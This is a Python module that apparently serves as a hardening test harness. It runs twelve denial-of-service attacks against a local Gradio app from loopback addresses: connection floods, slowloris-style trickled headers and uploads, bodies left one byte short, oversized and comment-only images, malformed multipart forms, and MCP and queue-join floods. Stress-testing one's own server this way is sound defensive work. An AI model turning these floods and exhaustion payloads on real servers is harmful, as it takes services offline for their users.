"""Twelve ways to keep others out or fill the server, as one address tries them, or several.

Run as python -m hardening.attacks NAME URL SECONDS ADDRESSES, a process of its own: its work is
none of what is measured. From 127.0.0.3 on; Linux lets a connection come from any of 127.0.0.0/8.
"""

import asyncio
import base64
import contextlib
import io
import itertools
import json
import random
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

from PIL import Image

from tools.app import SEVEN, page_address

API = "/gradio_api"
FORM = "multipart/form-data; boundary=x"
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Attack:
    """What one of them needs: the server's address, and counts of what it answered."""

    def __init__(self, url: str, addresses: int):
        self.host, port = urlsplit(url).netloc.split(":")
        self.port = int(port)
        self.page = urlsplit(page_address(url)).path
        self.answers: Counter[str] = Counter()
        self.addresses = itertools.cycle(f"127.0.0.{3 + i}" for i in range(addresses))

    async def connect(self) -> Streams:
        address = next(self.addresses), 0
        return await asyncio.open_connection(self.host, self.port, local_addr=address)

    async def send(self, streams: Streams, path: str, body: bytes, kind: str = "") -> None:
        """A request, its answer read and counted."""
        reader, writer = streams
        writer.write(head("POST", path, len(body), kind) + body)
        await writer.drain()
        self.count(await reader.readline())
        length, is_chunked = 0, False
        while line := (await reader.readline()).strip().lower():
            if line.startswith(b"content-length:"):
                length = int(line.split(b":")[1])
            is_chunked |= line == b"transfer-encoding: chunked"
        await (reader.readuntil(b"0\r\n\r\n") if is_chunked else reader.readexactly(length))

    def count(self, answer: bytes) -> None:
        """An answer, if this is how it begins; the connection's end, if there is nothing."""
        if not answer or answer.startswith(b"HTTP/"):
            self.answers[answer.split()[1].decode() if answer else "closed"] += 1

    async def over_and_over(self, path: str, bodies: Callable[[], bytes], kind: str = "") -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                streams = await self.connect()
                while True:
                    await self.send(streams, path, bodies(), kind)
            self.answers["broken off"] += 1
            await asyncio.sleep(0.05)

    async def idle(self, start: bytes, trickle: bytes = b"") -> None:
        """A connection that has sent `start`, and `trickle` again and again, while it is let."""
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await self.connect()
                writer.write(start)
                while not reader.at_eof():
                    with contextlib.suppress(TimeoutError):
                        self.count(await asyncio.wait_for(reader.read(1000), 1))
                    writer.write(trickle)
                    await writer.drain()
                writer.close()
            await asyncio.sleep(0.5)

    async def fall_short(self, start: bytes, size: int) -> None:
        """A body of which all but the last byte is sent, at once, and again when it is refused."""
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await self.connect()
                writer.write(start)
                answer, left = asyncio.ensure_future(reader.readline()), size - 1
                while left and not answer.done():
                    writer.write(bytes(min(left, 100_000)))
                    left -= min(left, 100_000)
                    await writer.drain()
                self.count(await answer)
                writer.close()
            await asyncio.sleep(0.5)

    # ---- Each a list of what is done at a time --------------------------------------------------

    def greedy(self) -> list[Awaitable[None]]:
        """100 connections, each asking as fast as it is answered."""
        return [self.over_and_over(f"{self.page}/word", small) for _ in range(100)]

    def pictures(self) -> list[Awaitable[None]]:
        """60 of the largest pictures that are taken, small as files."""
        file = io.BytesIO()
        Image.new("RGBA", (4000, 4000), (255, 255, 255, 0)).save(file, "PNG")
        return [self.over_and_over(f"{self.page}/picture", file.getvalue) for _ in range(60)]

    def comments(self) -> list[Awaitable[None]]:
        """6 GIFs of comments without end, each of which takes as long as it is let."""
        file = endless_gif(19_900_000)
        return [self.over_and_over(f"{self.page}/picture", lambda: file) for _ in range(6)]

    def heavy(self) -> list[Awaitable[None]]:
        """10 pictures of 19.9 MB."""
        side = 2_575
        file = io.BytesIO()
        noise = Image.frombytes("RGB", (side, side), random.randbytes(3 * side * side))
        noise.save(file, "PNG", compress_level=0)
        return [self.over_and_over(f"{self.page}/picture", file.getvalue) for _ in range(10)]

    def drawings(self) -> list[Awaitable[None]]:
        """48 full drawings at a time, for four networks."""
        points = [[random.uniform(-280, 560), random.uniform(-280, 560)] for _ in range(5_000)]
        nets = ["lenet5", "modern", "wide", "small"]
        body = json.dumps({"strokes": [points], "nets": nets}).encode()
        return [self.over_and_over(f"{self.page}/word", lambda: body) for _ in range(48)]

    def streams(self) -> list[Awaitable[None]]:
        """1,000 streams of events that never come."""
        paths = [f"{API}/heartbeat/x", f"{API}/queue/data?session_hash=x"]
        return [self.idle(head("GET", paths[i % 2] + str(i))) for i in range(1_000)]

    def heads(self) -> list[Awaitable[None]]:
        """1,000 requests that never get beyond their first lines."""
        return [self.idle(b"GET / HTTP/1.1\r\nHost: x\r\nX-", b"a") for _ in range(1_000)]

    def uploads(self) -> list[Awaitable[None]]:
        """200 uploads of 19 MB, at 10 kB a second."""
        start = head("POST", f"{API}/upload", 19_000_000, FORM) + form(b"")
        return [self.idle(start, bytes(10_000)) for _ in range(200)]

    def bodies(self) -> list[Awaitable[None]]:
        """100 bodies of 19 MB, each a byte short."""
        start, size = head("POST", f"{API}/upload", 19_000_000, FORM), 19_000_000
        return [self.fall_short(start, size) for _ in range(100)]

    def forms(self) -> list[Awaitable[None]]:
        """Forms of 19 MB, whole and good, in another field, without their end, without a file."""
        content = bytes(19_000_000)
        whole, end = form(content), b"\r\n--x--\r\n"
        other, plain = form(content, 'name="other"; filename="a"'), form(content, 'name="files"')
        kinds = itertools.cycle([whole + end, other + end, whole, plain + end])
        return [self.over_and_over(f"{API}/upload", kinds.__next__, FORM) for _ in range(4)]

    def tools(self) -> list[Awaitable[None]]:
        """Pictures by MCP, and listeners to it: for a server that has it."""
        path = f"{API}/mcp/"
        callers = [self.over_and_over(path, data_uri) for _ in range(20)]
        return [*callers, *(self.idle(head("GET", path)) for _ in range(100))]

    def events(self) -> list[Awaitable[None]]:
        """5,000 and more calls whose answers are never fetched."""
        return [self.over_and_over(f"{API}/queue/join", uncollected) for _ in range(50)]


def head(method: str, path: str, length: int = 0, kind: str = "") -> bytes:
    kind = kind or "application/json"
    lines = f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {kind}\r\n"
    lines += "Accept: application/json, text/event-stream\r\n"
    return f"{lines}Content-Length: {length}\r\n\r\n".encode()


def form(content: bytes, field: str = 'name="files"; filename="a"') -> bytes:
    """A form's only part, without the boundary that ends it."""
    return f"--x\r\nContent-Disposition: form-data; {field}\r\n\r\n".encode() + content


def endless_gif(size: int) -> bytes:
    """A GIF of about so many bytes, all comments: Pillow puts them together one by one."""
    comment = b"\x21\xfe\x01x\x00"
    head = b"GIF89a" + bytes([8, 0, 8, 0, 0, 0, 0])
    return head + comment * ((size - len(head)) // len(comment))


def small() -> bytes:
    return json.dumps({"strokes": SEVEN, "nets": ["lenet5", "modern"]}).encode()


def uncollected() -> bytes:
    data, session = [[[]] * 2_000, 280, 280, 18, "lenet5"], str(random.random())[2:]
    return json.dumps({"data": data, "fn_index": 0, "session_hash": session}).encode()


def data_uri() -> bytes:
    """A call of a tool, with a picture that is none: a new one each time."""
    picture = "data:image/png;base64," + base64.b64encode(random.randbytes(180_000)).decode()
    call = {"name": "read_picture", "arguments": {"picture": picture}}
    return json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call}).encode()


ATTACKS = "greedy pictures comments heavy drawings streams heads uploads".split()
ATTACKS += "events bodies forms tools".split()


async def attack(name: str, url: str, seconds: float, addresses: int) -> Counter[str]:
    attacker = Attack(url, addresses)
    tasks = [asyncio.ensure_future(connection) for connection in getattr(attacker, name)()]
    await asyncio.sleep(seconds)
    pending = set(tasks)
    while pending:  # `wait_for` may lose one that comes as it ends
        for task in pending:
            task.cancel()
        _, pending = await asyncio.wait(pending, timeout=1)
    return attacker.answers


if __name__ == "__main__":
    name, url, seconds, addresses = sys.argv[1:]
    print(dict(asyncio.run(attack(name, url, float(seconds), int(addresses)))))
